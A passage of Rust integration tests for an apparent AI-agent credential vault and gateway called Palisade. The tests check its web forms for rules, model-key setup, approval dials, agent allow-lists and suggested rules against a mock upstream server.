    for (field, value, draft_change) in [
        (
            "action",
            "rate_limit",
            "needs a rate limit N and a rate window",
        ),
        ("host_pattern", "a.*.com", "host pattern"),
        ("expires", "someday", "expires \"someday\""),
        ("name", "42", "all digits"),
    ] {
        let mut bad: Vec<(&str, &str)> = form
            .iter()
            .filter(|(k, _)| *k != field && *k != "name")
            .cloned()
            .collect();
        bad.push((field, value));
        if field != "name" {
            bad.push(("name", "other"));
        }
        if field == "action" {
            bad.retain(|(k, _)| *k != "approval_timeout");
        }
        bad.push(("intent", "save"));
        let shown = web.post_refused("/vault/rules", &bad).await;
        assert!(shown.contains(draft_change), "{field}: {shown}");
    }
    assert_eq!(web.store.list_rules().unwrap().len(), 1);

    // Edit keeps the id; disable keeps the rule but takes it out of the policy.
    let edit = format!("/vault/rules/{}/edit", rule.id);
    assert!(web.page(&edit).await.contains("value=\"ask-before-send\""));
    let mut changed: Vec<(&str, &str)> = save
        .iter()
        .filter(|(k, _)| *k != "action" && *k != "approval_timeout")
        .cloned()
        .collect();
    changed.push(("action", "block"));
    web.post_ok(&edit, &changed).await;
    let edited = web.store.get_rule(&rule.id.to_string()).unwrap();
    assert_eq!(edited.action, "block");
    assert_eq!(edited.approval_timeout_ms, None);
    web.post_ok(
        &format!("/vault/rules/{}/enabled", rule.id),
        &[("enabled", "false")],
    )
    .await;
    assert!(!web.store.get_rule("ask-before-send").unwrap().enabled);
    assert!(web.store.load_policy().unwrap().rules().is_empty());
    assert!(web.page("/vault").await.contains("disabled"));
    web.post_ok(
        &format!("/vault/rules/{}/enabled", rule.id),
        &[("enabled", "true")],
    )
    .await;
    assert_eq!(web.store.load_policy().unwrap().rules().len(), 1);

    let confirm = web.page(&format!("/vault/rules/{}/delete", rule.id)).await;
    assert!(confirm.contains("Delete the rule"));
    assert_eq!(web.store.list_rules().unwrap().len(), 1);
    web.post_ok(&format!("/vault/rules/{}/delete", rule.id), &[])
        .await;
    assert!(web.store.list_rules().unwrap().is_empty());
    let events: Vec<String> = web
        .store
        .list_audit(&AuditFilter {
            event: None,
            ..Default::default()
        })
        .unwrap()
        .into_iter()
        .filter(|row| row.entry.actor.as_deref() == Some("web:admin"))
        .map(|row| row.entry.event)
        .collect();
    for event in [
        "rule.create",
        "rule.update",
        "rule.disable",
        "rule.enable",
        "rule.delete",
    ] {
        assert!(events.iter().any(|e| e == event), "{event}: {events:?}");
    }
    web.stop().await;
}

/// A change the running gateway cannot load (a rule in the database it cannot read)
/// is not shown as done: the page after the form says the gateway still enforces the
/// previous configuration, and why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_the_gateway_cannot_load_is_shown_as_not_in_force() {
    let web = Web::start(true).await;
    let rule = |name: &'static str| {
        [
            ("name", name),
            ("host_pattern", "api.example.com"),
            ("path_pattern", "/x"),
            ("method", ""),
            ("action", "block"),
            ("agent", ""),
            ("priority", ""),
            ("scope", "user"),
            ("intent", "save"),
        ]
    };
    let location = web.post_ok("/vault/rules", &rule("broken")).await;
    let page = web.page(&location).await;
    assert!(!page.contains("id=\"not-in-force\""), "{page}");

    let database = rusqlite::Connection::open(web.home.database()).unwrap();
    database
        .execute(
            "UPDATE rules SET host_pattern = 'not a host' WHERE name = 'broken'",
            [],
        )
        .unwrap();
    drop(database);
    let location = web.post_ok("/vault/rules", &rule("later")).await;
    let page = web.page(&location).await;
    let banner = element(&page, "p", "not-in-force");
    assert!(
        banner.contains("still enforces the previous one") && banner.contains("broken"),
        "{page}"
    );
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn charts_show_a_days_traffic_and_how_long_decisions_took() {
    let web = Web::start(false).await;
    let none = web.page("/agents/helper").await;
    assert!(none.contains("No requests through the vault in the last 24 hours"));
    let now = palisade_store::now_ms();
    web.store
        .add_request_counts(&[
            ("helper".into(), now, Outcome::Allowed, 7),
            ("helper".into(), now, Outcome::Injected, 3),
            ("helper".into(), now - 3_600_000, Outcome::Blocked, 2),
            (
                "helper".into(),
                now - 2 * 3_600_000,
                Outcome::RateLimited,
                1,
            ),
        ])
        .unwrap();
    let page = web.page("/agents/helper").await;
    let svg = &page[page.find("<svg").expect("a chart")..page.find("</svg>").unwrap()];
    for class in [
        "bar allowed",
        "bar injected",
        "bar blocked",
        "bar rate_limited",
    ] {
        assert!(svg.contains(class), "{class} missing");
    }
    assert!(
        svg.contains("7 allowed, 3 injected, 2 blocked, 1 rate-limited"),
        "{svg}"
    );
    assert!(!page.contains("<script>"), "no inline script");
    let dashboard = web.page("/").await;
    assert!(dashboard.contains("id=\"traffic\"") && dashboard.contains("<svg"));

    // A decided approval: the approvals page says how long it took.
    let approval = web
        .store
        .create_approval(palisade_store::NewApproval {
            kind: "credential_use".into(),
            agent: AgentName::new("helper").unwrap(),
            title: "send the report".into(),
            lines: vec![],
            detail: String::new(),
            context: serde_json::json!({}),
            expires_at_ms: now + 600_000,
            holder: None,
            request_key: None,
        })
        .unwrap();
    tokio::time::sleep(Duration::from_millis(50)).await;
    let csrf = web.csrf().await;
    let decided = web
        .client
        .post(web.url(&format!("/approvals/{}/decide", approval.id)))
        .header("cookie", web.cookie())
        .header("origin", web.origin())
        .form(&[("decision", "approve"), ("csrf", &csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(decided.status(), StatusCode::SEE_OTHER);
    let approvals = web.page("/approvals").await;
    assert!(approvals.contains("id=\"decision-times\""), "{approvals}");
    assert!(approvals.contains("class=\"nowrap took\""));
    web.stop().await;
}

/// A first run against a model server where nothing answers says why on the card (the
/// vault's words), not only that the list "could not be read".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_first_run_whose_server_does_not_answer_says_why() {
    let web = Web::start(true).await;
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let base_url = format!("https://localhost:{closed}/v1");
    let to = web
        .post_ok(
            "/setup/model-key",
            &[
                ("agent", "helper"),
                ("provider", "openai"),
                ("base_url", &base_url),
                ("key", MODEL_KEY),
                ("model", "local-model"),
            ],
        )
        .await;
    let ready = web.page(&to).await;
    let said = ready
        .split("id=\"unlisted\"")
        .nth(1)
        .and_then(|rest| rest.split("</p>").next())
        .unwrap_or_else(|| panic!("no reason on the card: {ready}"));
    assert!(
        said.contains("upstream_unreachable") && said.contains(&format!("localhost:{closed}")),
        "{said}"
    );
    assert!(!ready.contains(MODEL_KEY));
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn first_run_stores_the_key_in_the_vault_and_picks_the_newest_model() {
    let web = Web::start(true).await;
    let (_, upstream, _) = web.vault.as_ref().unwrap();
    upstream.set_models(&[
        ("claude-sonnet-4-5-20250929", "2025-09-29T00:00:00Z"),
        ("claude-sonnet-4-6", "2026-02-17T00:00:00Z"),
        ("claude-sonnet-4-7-20261120", "2026-11-20T00:00:00Z"),
        ("claude-opus-4-7", "2026-12-01T00:00:00Z"),
    ]);
    upstream.script_anthropic(vec![ScriptedTurn::text("unused")]);
    let dashboard = web.page("/").await;
    assert!(dashboard.contains("id=\"first-run\""), "no first-run form");
    assert!(dashboard.contains("type=\"password\" name=\"key\""));

    // An empty key is refused with one line, and nothing is stored.
    let refused = web
        .post_refused(
            "/setup/model-key",
            &[("agent", "helper"), ("provider", "anthropic"), ("key", "")],
        )
        .await;
    assert!(refused.contains("the API key is empty"), "{refused}");
    assert!(web.store.list_secrets().unwrap().is_empty());

    let to = web
        .post_ok(
            "/setup/model-key",
            &[
                ("agent", "helper"),
                ("provider", "anthropic"),
                ("base_url", &upstream.base_url()),
                ("key", MODEL_KEY),
                ("model", ""),
            ],
        )
        .await;
    assert_eq!(to, "/?ready=helper");
    let helper = web
        .store
        .get_agent(&AgentName::new("helper").unwrap())
        .unwrap();
    assert_eq!(
        helper.settings["model"], "claude-sonnet-4-7-20261120",
        "the newest of the family, not the newest model"
    );
    let secret = web.store.get_secret("anthropic").unwrap();
    // With the base URL's port: the key goes to that server, not every local service.
    assert_eq!(
        secret.host_pattern,
        format!("localhost:{}", upstream.port())
    );
    assert_eq!(secret.agents, vec![AgentName::new("helper").unwrap()]);
    // The list was asked through the vault, which injected the key.
    let listed: Vec<_> = upstream
        .requests()
        .into_iter()
        .filter(|r| r.path() == "/v1/models")
        .collect();
    assert!(!listed.is_empty());
    assert_eq!(listed[0].api_key(), Some(MODEL_KEY));

    let ready = web.page(&to).await;
    assert!(ready.contains("id=\"first-message\"") && ready.contains("/chat?agent=helper"));
    assert!(ready.contains("claude-sonnet-4-7-20261120"));
    assert!(
        !ready.contains("id=\"first-run\""),
        "the form is gone once a key is stored"
    );
    // The agent page offers the provider's models as a choice.
    let agent = web.page("/agents/helper").await;
    assert!(agent.contains("<select name=\"model\">"), "{agent}");
    assert!(agent.contains("<option value=\"claude-opus-4-7\""));
    for page in [dashboard, ready, agent] {
        assert!(!page.contains(MODEL_KEY));
    }
    // The Health page's online check: one tiny request to the model, through the vault.
    let online = web.post("/health/online", &[]).await;
    assert_eq!(online.status(), StatusCode::OK);
    let online = online.text().await.unwrap();
    assert!(
        online.contains("agent helper: claude-sonnet-4-7-20261120 answered through the vault"),
        "{online}"
    );
    let probe = upstream
        .requests()
        .into_iter()
        .rev()
        .find(|r| r.path() == "/v1/messages")
        .expect("the probe reached the model API");
    assert_eq!(probe.api_key(), Some(MODEL_KEY));
    assert_eq!(probe.body_json().unwrap()["max_tokens"], 1);
    assert!(!online.contains(MODEL_KEY));

    // A second key under the same name is refused with the way to rotate it.
    let again = web
        .post_refused(
            "/setup/model-key",
            &[
                ("agent", "helper"),
                ("provider", "anthropic"),
                ("base_url", &upstream.base_url()),
                ("key", "another"),
            ],
        )
        .await;
    assert!(again.contains("rotate"), "{again}");
    // Nor does an old page move the agent to another API (here Anthropic's own).
    let moved = web
        .post_refused(
            "/setup/model-key",
            &[
                ("agent", "helper"),
                ("provider", "anthropic"),
                ("key", "another"),
            ],
        )
        .await;
    assert!(
        moved.contains("already has a key for its model API"),
        "{moved}"
    );
    let rows = web
        .store
        .list_audit(&AuditFilter {
            event: Some("secret.create".into()),
            ..Default::default()
        })
        .unwrap();
    assert_eq!(rows[0].entry.actor.as_deref(), Some("web:admin"));
    web.stop().await;
}

/// A key the provider refuses (401 on its model list) is not kept: the form comes back
/// saying so, nothing is in the vault, and the right key is then taken. (Before, the
/// wrong key was stored and the card said the agent was ready.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn first_run_does_not_keep_a_key_the_provider_refuses() {
    let web = Web::start(true).await;
    let (_, upstream, _) = web.vault.as_ref().unwrap();
    upstream.accept_only_key(MODEL_KEY);
    let base_url = upstream.base_url();
    let form = |key, model| {
        [
            ("agent", "helper"),
            ("provider", "anthropic"),
            ("base_url", base_url.as_str()),
            ("key", key),
            ("model", model),
        ]
    };
    let helper = palisade_policy::AgentName::new("helper").unwrap();
    let before = web.store.get_agent(&helper).unwrap().settings;
    let refused = web
        .post_refused("/setup/model-key", &form("sk-wrong-key", "claude-typed"))
        .await;
    assert!(
        refused.contains("The provider refused this key (401"),
        "{refused}"
    );
    assert!(web.store.list_secrets().unwrap().is_empty());
    // The agent is as it was (it kept the typed model and URL), and the person is told
    // what else a refused key can mean at a server that is not Anthropic's.
    assert_eq!(web.store.get_agent(&helper).unwrap().settings, before);
    assert!(refused.contains("OpenAI-compatible"), "{refused}");
    // A model typed that the server does not list is not "ready": the card names the
    // ones it lists. (It said the agent was ready, and the first message failed.)
    let to = web
        .post_ok("/setup/model-key", &form(MODEL_KEY, "claude-sonet-4-6"))
        .await;
    assert_eq!(to, "/?ready=helper");
    let card = web.page(&to).await;
    assert!(!card.contains("helper is ready"), "{card}");
    let box_ = element(&card, "p", "not-listed");
    assert!(
        box_.contains("claude-sonet-4-6") && box_.contains("claude-sonnet-4-6"),
        "{box_}"
    );
    web.store.delete_secret("anthropic").unwrap();
    let to = web.post_ok("/setup/model-key", &form(MODEL_KEY, "")).await;
    assert_eq!(to, "/?ready=helper");
    assert_eq!(web.store.list_secrets().unwrap().len(), 1);
    web.stop().await;
}

/// A local model server the vault is not allowed to reach (the gateway allows only
/// `localhost` here): the key is stored, and the ready card names the refused host and
/// the option that allows it, instead of only saying the model list was not read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn first_run_names_the_option_a_local_model_server_needs() {
    let web = Web::start(true).await;
    let (_, upstream, _) = web.vault.as_ref().unwrap();
    let local = upstream.base_url().replace("localhost", "127.0.0.1");
    let to = web
        .post_ok(
            "/setup/model-key",
            &[
                ("agent", "helper"),
                ("provider", "openai"),
                ("base_url", &format!("{local}/v1")),
                ("key", MODEL_KEY),
                ("model", ""),
            ],
        )
        .await;
    assert_eq!(to, "/?ready=helper");
    let ready = web.page(&to).await;
    assert!(
        ready.contains("helper cannot reach its model yet")
            || ready.contains("helper needs a model"),
        "{ready}"
    );
    let card = element(&ready, "div", "local-refused");
    // The address with the server's port: that port only, not every service there.
    let allowance = format!("127.0.0.1:{}", upstream.port());
    assert!(
        card.contains(&format!("palisade vault local allow {allowance}")),
        "{card}"
    );
    // No model of the OpenAI-compatible server could be chosen: not "ready" with a
    // Claude model, but a model still to choose.
    assert!(ready.contains("helper needs a model"), "{ready}");
    assert!(!ready.contains("id=\"ready-model\""), "{ready}");
    // The card is what this server found, whatever a link says: the host named is the
    // agent's, and an agent no key was stored for here gets no card.
    assert!(!web
        .page("/?ready=helper&models=local&host=evil")
        .await
        .contains("evil"));
    web.store
        .create_agent(
            &AgentName::new("other").unwrap(),
            palisade_policy::Profile::Research,
        )
        .unwrap();
    let forged = web.page("/?ready=other&models=local").await;
    assert!(!forged.contains("id=\"ready\""), "{forged}");
    assert!(!ready.contains(MODEL_KEY));
    // The plain dashboard (a reload, a restart: the card is gone) still says the agent
    // has no model of its server.
    let dashboard = web.page("/").await;
    assert!(
        dashboard.contains("choose a model") && dashboard.contains("no-model"),
        "{dashboard}"
    );
    // And it keeps the card with its button until the server is allowed (it was only
    // at `/?ready=`).
    assert!(dashboard.contains("id=\"allow-local\""), "{dashboard}");
    // So does the agent page, in words for the person, not for the agent.
    let page = web.page("/agents/helper").await;
    assert!(page.contains("id=\"allow-local\""), "{page}");
    assert!(!page.contains("Do not retry"), "{page}");
    // The card's button allows the address (in force at once, remembered) and reads
    // the list again: the agent gets the server's model and is ready, no restart.
    upstream.set_models(&[
        ("llama-3-8b", "2025-01-01T00:00:00Z"),
        ("qwen-2-7b", "2025-06-01T00:00:00Z"),
    ]);
    let to = web
        .post_ok(
            "/setup/allow-local",
            // A pattern in the form is not what is allowed: the agent's server is.
            &[("agent", "helper"), ("pattern", "*")],
        )
        .await;
    assert_eq!(to, "/?ready=helper");
    assert_eq!(
        web.store.local_upstreams().unwrap().patterns,
        std::slice::from_ref(&allowance)
    );
    let ready = web.page(&to).await;
    assert!(ready.contains("helper is ready"), "{ready}");
    let model = element(&ready, "code", "ready-model");
    assert!(model.contains("qwen-2-7b"), "{model}");
    let dashboard = web.page("/").await;
    assert!(!dashboard.contains("choose a model"), "{dashboard}");
    assert!(!dashboard.contains("allow-local"), "{dashboard}");
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dial_is_turned_on_the_agent_page_and_in_force_when_it_answers() {
    use palisade_policy::dial::{Dial, Preset};
    let web = Web::start(true).await;
    let helper = AgentName::new("helper").unwrap();
    let dial_of = |page: &str| element(page, "section", "dial");

    // No dial yet: asked only where rules say, balanced sanitizing, which is no preset.
    let dial = dial_of(&web.page("/agents/helper").await);
    assert!(dial.contains(">default<"), "{dial}");
    for line in Dial::default().explain() {
        assert!(dial.contains(&line), "{line} missing: {dial}");
    }

    // A preset sets both knobs, stored in the agent's settings.
    let to = web
        .post_ok("/agents/helper/dial", &[("preset", "strict")])
        .await;
    assert_eq!(to, "/agents/helper?saved=dial");
    let settings = web.store.get_agent(&helper).unwrap().settings;
    assert_eq!(
        (&settings["approvals"], &settings["sanitize"]),
        (&serde_json::json!("every"), &serde_json::json!("strict"))
    );
    let page = web.page(&to).await;
    assert!(page.contains("Dial saved"));
    let dial = dial_of(&page);
    assert!(dial.contains(">preset strict<"), "{dial}");
    let plain = element(&page, "section", "plain-words");
    for line in Preset::Strict.dial().explain() {
        assert!(dial.contains(&line), "{line} missing: {dial}");
        assert!(
            plain.contains(&line),
            "{line} missing in plain words: {plain}"
        );
    }

    // One knob over it: custom, the other knob as it was.
    web.post_ok(
        "/agents/helper/dial",
        &[("approvals", "first-use"), ("sanitize", "strict")],
    )
    .await;
    let settings = web.store.get_agent(&helper).unwrap().settings;
    assert_eq!(settings["approvals"], "first-use");
    assert_eq!(settings["sanitize"], "strict");
    let dial = dial_of(&web.page("/agents/helper").await);
    assert!(dial.contains(">custom<"), "{dial}");
    assert!(
        dial.contains("Approvals (first-use): a person approves the first request to each host")
    );
    // A custom dial shows no preset as chosen (the form asks for one).
    assert!(
        dial.contains("<option value=\"\" disabled selected>custom; choose a preset"),
        "{dial}"
    );

    // Bad values: the shared code's line (the CLI's), and nothing written.
    let before = snapshot(&web.store);
    let draft = |preset: &str, approvals: &str, sanitize: &str| {
        let given = |text: &str| (!text.is_empty()).then(|| text.to_string());
        palisade_host::agents::DialDraft {
            preset: given(preset),
            approvals: given(approvals),
            sanitize: given(sanitize),
        }
    };
    for (preset, approvals, sanitize, needle) in [
        ("lax", "", "", "preset \"lax\" is unknown"),
        (
            "strict",
            "sometimes",
            "",
            "approval frequency \"sometimes\" is unknown",
        ),
        ("", "every", "loose", "strictness \"loose\" is unknown"),
    ] {
        let form: Vec<(&str, &str)> = [
            ("preset", preset),
            ("approvals", approvals),
            ("sanitize", sanitize),
        ]
        .into_iter()
        .filter(|(_, value)| !value.is_empty())
        .collect();
        let shown = web.post_refused("/agents/helper/dial", &form).await;
        let expected =
            palisade_host::agents::dial(&web.store, "helper", &draft(preset, approvals, sanitize))
                .unwrap_err()
                .to_string();
        assert_eq!(shown, expected);
        assert!(shown.contains(needle), "{shown}");
    }
    let unknown = web
        .post("/agents/ghost/dial", &[("preset", "strict")])
        .await;
    assert_eq!(unknown.status(), StatusCode::NOT_FOUND);
    assert!(unknown
        .text()
        .await
        .unwrap()
        .contains("agent &quot;ghost&quot; not found"));
    assert_eq!(
        snapshot(&web.store),
        before,
        "a refused dial changed something"
    );

    let updates = web
        .store
        .list_audit(&AuditFilter {
            agent: Some("helper".into()),
            event: Some("agent.update".into()),
            ..Default::default()
        })
        .unwrap();
    assert!(
        updates.len() >= 2
            && updates
                .iter()
                .all(|row| row.entry.actor.as_deref() == Some("web:admin")),
        "{updates:?}"
    );

    // In force when the page answers: with the strict preset, a credentialed request
    // from helper waits for a person at the running vault; with relaxed it goes ahead.
    let (gateway, upstream, _) = web.vault.as_ref().unwrap();
    let checked = palisade_store::input::SecretDraft {
        name: "key".into(),
        host_pattern: "localhost".into(),
        inject: "bearer".into(),
        agents: vec!["helper".into()],
        ..Default::default()
    }
    .check()
    .unwrap();
    web.store
        .create_secret(checked.with_value(palisade_policy::SecretValue::new("tok-dial".into())))
        .unwrap();
    let token = web
        .store
        .agent_token(&helper, false)
        .unwrap()
        .expose()
        .to_string();
    let ca = web.home.root().join("vault-ca.pem");
    std::fs::write(&ca, palisade_vault::ca_certificate_pem(&web.home).unwrap()).unwrap();
    let proxy = gateway.tcp_addr().unwrap();
    let send = |path: &str| {
        let args: Vec<String> = vec![
            "-sS".into(),
            "-o".into(),
            "/dev/null".into(),
            "-w".into(),
            "%{http_code}".into(),
            "--max-time".into(),
            "20".into(),
            "--proxy".into(),
            format!("http://{proxy}"),
            "--proxy-user".into(),
            format!("x:{token}"),
            "--cacert".into(),
            ca.to_str().unwrap().into(),
            upstream.url(path),
        ];
        tokio::task::spawn_blocking(move || {
            let output = palisade_testkit::curl(&args, Duration::from_secs(30));
            String::from_utf8_lossy(&output.stdout).to_string()
        })
    };
    web.post_ok("/agents/helper/dial", &[("preset", "strict")])
        .await;
    let before = upstream.count();
    let held = send("/dial/held");
    let mut pending = Vec::new();
    for _ in 0..100 {
        pending = web
            .store
            .list_approvals(Some(palisade_store::ApprovalStatus::Pending), 10)
            .unwrap();
        if !pending.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(pending.len(), 1, "the strict dial did not hold the request");
    assert_eq!(pending[0].context["path"], "/dial/held");
    assert_eq!(upstream.count(), before, "a held request went upstream");
    let denied = web
        .post(
            &format!("/approvals/{}/decide", pending[0].id),
            &[("decision", "deny")],
        )
        .await;
    assert_eq!(denied.status(), StatusCode::SEE_OTHER);
    assert_eq!(held.await.unwrap(), "403");
    assert_eq!(upstream.count(), before);

    web.post_ok("/agents/helper/dial", &[("preset", "relaxed")])
        .await;
    assert_eq!(send("/dial/free").await.unwrap(), "200");
    assert_eq!(upstream.count(), before + 1);
    assert!(web
        .store
        .list_approvals(Some(palisade_store::ApprovalStatus::Pending), 10)
        .unwrap()
        .is_empty());
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_allow_list_is_changed_on_the_agent_page_and_disallowing_asks_first() {
    let web = Web::start(false).await;
    let (helper, mailer) = (
        AgentName::new("helper").unwrap(),
        AgentName::new("mailer").unwrap(),
    );
    web.store.create_agent(&mailer, Profile::Action).unwrap();
    let page = web.page("/agents/helper").await;
    assert!(element(&page, "p", "may-message").contains("No other agent."));
    assert!(element(&page, "section", "plain-words").contains("helper may message no other agent."));

    // helper → mailer, a person approving before mailer gets each message.
    let to = web
        .post_ok(
            "/agents/helper/links",
            &[
                ("direction", "to"),
                ("agent", "mailer"),
                ("approve", "inbound"),
            ],
        )
        .await;
    assert_eq!(to, "/agents/helper?saved=allowed");
    let link = web
        .store
        .agent_link(&helper, &mailer)
        .unwrap()
        .expect("allowed");
    assert!(link.approve_inbound && !link.approve_outbound);
    // mailer → helper, nobody asked.
    web.post_ok(
        "/agents/helper/links",
        &[("direction", "from"), ("agent", "mailer"), ("approve", "")],
    )
    .await;
    let link = web
        .store
        .agent_link(&mailer, &helper)
        .unwrap()
        .expect("allowed");
    assert!(!link.approve_inbound && !link.approve_outbound);
    assert_eq!(web.store.list_agent_links(None).unwrap().len(), 2);

    let page = web.page("/agents/helper").await;
    let may_message = element(&page, "ul", "may-message");
    assert!(
        may_message.contains(">mailer<")
            && may_message.contains("approved before each message is delivered"),
        "{may_message}"
    );
    assert!(element(&page, "ul", "messaged-by").contains(">mailer<"));
    let plain = element(&page, "section", "plain-words");
    // Mailer acts, helper researches: what crosses from mailer is approved anyway.
    assert!(plain.contains("helper may message mailer, approved before each message is delivered (each answer approved before helper gets it: mailer is an action agent"), "{plain}");
    assert!(plain.contains("mailer may message helper (each message approved before it leaves: mailer is an action agent, helper a research agent)."), "{plain}");
    // The other agent's page shows the same entries the other way round.
    let other = web.page("/agents/mailer").await;
    assert!(element(&other, "ul", "may-message").contains(">helper<"));
    assert!(element(&other, "ul", "messaged-by").contains(">helper<"));

    // Refused input: the shared code's line (the CLI's), nothing written.
    let before = snapshot(&web.store);
    for (form, from, to, approve) in [
        (
            [
                ("direction", "to"),
                ("agent", "mailer"),
                ("approve", "sideways"),
            ],
            "helper",
            "mailer",
            Some("sideways"),
        ),
        (
            [("direction", "to"), ("agent", "helper"), ("approve", "")],
            "helper",
            "helper",
            None,
        ),
        (
            [("direction", "from"), ("agent", "ghost"), ("approve", "")],
            "ghost",
            "helper",
            None,
        ),
    ] {
        let shown = web.post_refused("/agents/helper/links", &form).await;
        let expected = palisade_host::agents::allow(&web.store, from, to, approve)
            .unwrap_err()
            .to_string();
        // The CLI's words, without the "invalid value:" a form does not need.
        let expected = expected
            .strip_prefix("invalid value: ")
            .unwrap_or(&expected);
        assert_eq!(shown, expected, "{form:?}");
    }
    let shown = web
        .post_refused(
            "/agents/helper/links",
            &[("direction", "sideways"), ("agent", "mailer")],
        )
        .await;
    assert!(
        shown.contains("direction \"sideways\" is unknown"),
        "{shown}"
    );
    assert_eq!(
        snapshot(&web.store),
        before,
        "a refused allow changed something"
    );

    // Disallowing asks first; the confirmation page alone changes nothing.
    let confirm = web
        .page("/agents/helper/links/remove?from=helper&to=mailer")
        .await;
    assert!(
        confirm.contains("action=\"/agents/helper/links/remove?from=helper&amp;to=mailer\""),
        "{confirm}"
    );
    assert_eq!(snapshot(&web.store), before);
    let to = web
        .post_ok("/agents/helper/links/remove?from=helper&to=mailer", &[])
        .await;
    assert_eq!(to, "/agents/helper?saved=disallowed");
    assert!(web.store.agent_link(&helper, &mailer).unwrap().is_none());
    assert!(
        web.store.agent_link(&mailer, &helper).unwrap().is_some(),
        "only that entry"
    );
    let page = web.page("/agents/helper").await;
    assert!(element(&page, "p", "may-message").contains("No other agent."));
    // Gone already: the store's line, as `agents disallow` says it.
    let shown = web
        .post_refused("/agents/helper/links/remove?from=helper&to=mailer", &[])
        .await;
    assert_eq!(
        shown,
        palisade_host::agents::disallow(&web.store, "helper", "mailer")
            .unwrap_err()
            .to_string()
    );
    assert_eq!(shown, "allow-list entry \"helper -> mailer\" not found");
    assert_eq!(
        web.get("/agents/helper/links/remove?from=helper&to=mailer")
            .await
            .status(),
        StatusCode::NOT_FOUND
    );

    common::assert_audited_as_admin(
        &web.store,
        Some("helper"),
        &["agent.allow", "agent.disallow"],
    );
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn suggested_rules_are_shown_and_created_only_when_accepted() {
    let web = Web::start(false).await;
    let holding = create_holding_rule(&web.store);
    // Approved three times: suggested. Approved three times but denied once: never.
    // Approved twice: below the threshold of 3.
    record_approvals(&web.store, "POST", "/labels", true, 3);
    record_approvals(&web.store, "POST", "/send", true, 3);
    record_approvals(&web.store, "POST", "/send", false, 1);
    record_approvals(&web.store, "POST", "/drafts", true, 2);

    let approvals = web.page("/approvals").await;
    assert!(approvals.contains("href=\"/approvals/suggest\""));
    let page = web.page("/approvals/suggest").await;
    let expected = palisade_approvals::suggest::load(&web.store, DAY * 7, 3).unwrap();
    assert_eq!(expected.len(), 1, "{expected:?}");
    let listed = element(&page, "section", "suggestions");
    assert_eq!(
        listed.matches("class=\"card suggestion\"").count(),
        1,
        "{listed}"
    );
    assert!(listed.contains(&expected[0].explain()), "{listed}");
    assert!(
        listed.contains("spared 3 approvals, all of the same query and body (by Ana ×3)"),
        "{listed}"
    );
    assert!(listed.contains("api.example.com:443/labels"));
    assert!(!listed.contains("/send"), "a denied request was suggested");
    assert!(!listed.contains("/drafts"));
    // A lower threshold brings the twice-approved one, never the denied one.
    let lower = element(
        &web.page("/approvals/suggest?since=30d&min=2").await,
        "section",
        "suggestions",
    );
    assert!(lower.contains("/drafts") && lower.contains("/labels") && !lower.contains("/send"));

    // Listing applied nothing. A stale number or another rule under it: refused with
    // the shared line, nothing written.
    let rule = expected[0].rule_name.clone();
    let before = snapshot(&web.store);
    let window = [("since", "7d"), ("min", "3")];
    let accept = |number: &'static str, rule: String| {
        let mut form = vec![("number", number.to_string()), ("rule", rule)];
        form.extend(window.iter().map(|(k, v)| (*k, v.to_string())));
        form
    };
    let stale = accept("2", rule.clone());
    let stale: Vec<(&str, &str)> = stale.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let shown = web.post_refused("/approvals/suggest/accept", &stale).await;
    assert_eq!(
        shown,
        palisade_approvals::suggest::accept(&web.store, &expected, 2, None)
            .unwrap_err()
            .to_string()
    );
    assert_eq!(
        shown,
        "there is no suggestion 2: run `palisade approvals suggest` to see them (1 now)"
    );
    let other = accept("1", "suggested-helper-00000000".into());
    let other: Vec<(&str, &str)> = other.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let shown = web.post_refused("/approvals/suggest/accept", &other).await;
    assert!(
        shown.starts_with("suggestion 1 is no longer rule suggested-helper-00000000"),
        "{shown}"
    );
    assert_eq!(
        snapshot(&web.store),
        before,
        "a refused accept changed something"
    );

    // Accept: exactly the narrow rule `--accept 1` creates, and the suggestion is gone.
    let good = accept("1", rule.clone());
    let good: Vec<(&str, &str)> = good.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let to = web.post_ok("/approvals/suggest/accept", &good).await;
    assert!(
        to.starts_with("/approvals/suggest?since=7d&min=3&accepted="),
        "{to}"
    );
    let created = web
        .store
        .list_rules()
        .unwrap()
        .into_iter()
        .find(|r| r.name == rule)
        .expect("the rule was created");
    assert_eq!(created.action, "allow");
    assert_eq!(
        created.agent.as_ref().map(AgentName::as_str),
        Some("helper")
    );
    assert_eq!(created.method, "POST");
    assert_eq!(created.host_pattern, "api.example.com:443");
    assert_eq!(created.path_pattern.as_deref(), Some("/labels"));
    assert_eq!(created.priority, holding.priority + 1);
    let page = web.page(&to).await;
    assert!(element(&page, "p", "saved").contains(&rule));
    assert!(element(&page, "section", "suggestions").contains("Nothing to suggest"));
    assert!(palisade_approvals::suggest::load(&web.store, DAY * 7, 3)
        .unwrap()
        .is_empty());
    // Accepting it again: the list moved on.
    let shown = web.post_refused("/approvals/suggest/accept", &good).await;
    assert_eq!(
        shown,
        "there is no suggestion 1: run `palisade approvals suggest` to see them (0 now)"
    );
    let created_by: Vec<String> = web
        .store
        .list_audit(&AuditFilter {
            event: Some("rule.create".into()),
            ..Default::default()
        })
        .unwrap()
        .into_iter()
        .filter(|row| row.entry.rule.as_deref() == Some(rule.as_str()))
        .filter_map(|row| row.entry.actor)
        .collect();
    assert_eq!(created_by, vec!["web:admin".to_string()]);
    web.stop().await;
}

/// A form a browser sends without a live session (Palisade restarted since the page was
/// loaded) gets a page, not raw JSON, saying why and how to log in again, with what was
/// typed given back to copy; the page's own script, which asks for JSON, still gets
